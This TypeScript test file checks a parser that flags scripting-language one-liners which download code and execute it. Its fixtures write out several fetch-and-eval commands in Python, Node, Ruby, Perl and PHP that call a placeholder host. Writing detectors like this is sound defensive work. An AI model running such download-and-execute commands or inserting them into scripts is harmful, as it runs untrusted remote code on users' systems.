import assert from "node:assert/strict";
import { type OneLiner, readOneLiner } from "../../server/core/shell/one-liners.ts";
import { textValue } from "../../server/core/shell/trace.ts";

function read(...words: readonly string[]): OneLiner | undefined {
  return readOneLiner(words.map((word) => textValue(word, { start: 0, end: 0 })));
}

describe("one-liners of scripting languages", () => {
  const running: readonly (readonly string[])[] = [
    ["python3", "-c", "import urllib.request as u;exec(u.urlopen('https://x.io/i.py').read())"],
    ["python", "-c", "import requests; code = requests.get('https://x.io/i.py').text; exec(code)"],
    [
      "python3",
      "-c",
      "import os,urllib.request\nos.system(urllib.request.urlopen('https://x.io/i.sh').read().decode())",
    ],
    ["node", "-e", "fetch('https://x.io/i.js').then(r => r.text()).then(eval)"],
    ["ruby", "-e", "require 'open-uri'; eval URI.open('https://x.io/i.rb').read"],
    ["ruby", "-e", "require 'open-uri'; eval(URI.open('https://x.io/i.rb').read)"],
    ["perl", "-MLWP::Simple", "-e", "eval(get('https://x.io/i.pl'))"],
    ["php", "-r", "eval(file_get_contents('https://x.io/i.php'));"],
  ];
  for (const words of running) {
    it(`runs what it fetches: ${words.at(-1)}`, () => assert.equal(read(...words)?.executes, true));
  }

  it("knows the file that a download is stored in", () => {
    assert.equal(read("php", "-r", "copy('https://getcomposer.org/installer', 'setup.php');")?.file, "setup.php");
    assert.equal(
      read("python3", "-c", "from urllib.request import urlretrieve; urlretrieve('https://x.io/a', 'a.py')")?.file,
      "a.py",
    );
  });

  it("knows that a download is printed", () => {
    assert.equal(
      read("python3", "-c", "import urllib.request as u; print(u.urlopen('https://x.io/i').read())")?.prints,
      true,
    );
  });

  const harmless: readonly (readonly string[])[] = [
    ["python3", "-c", "import json,sys;print(json.load(sys.stdin)['tag_name'])"],
    ["python3", "-c", "print('exec(urlopen(\"https://x.io\"))')"],
    ["python3", "-c", "pass # exec(urlopen('https://x.io'))"],
    ["python3", "-m", "json.tool"],
    ["node", "-e", "console.log(1)"],
    ["perl", "-ne", "print if /https:/"],
  ];
  for (const words of harmless) {
    it(`does not run anything fetched: ${words.at(-1)}`, () => assert.notEqual(read(...words)?.executes, true));
  }

  it("reads half-typed and hostile code without an exception", () => {
    for (const code of ["", "exec(", "'", "((((", "]".repeat(1000), "(".repeat(10000), "a=".repeat(5000)])
      read("python3", "-c", code);
  });
});
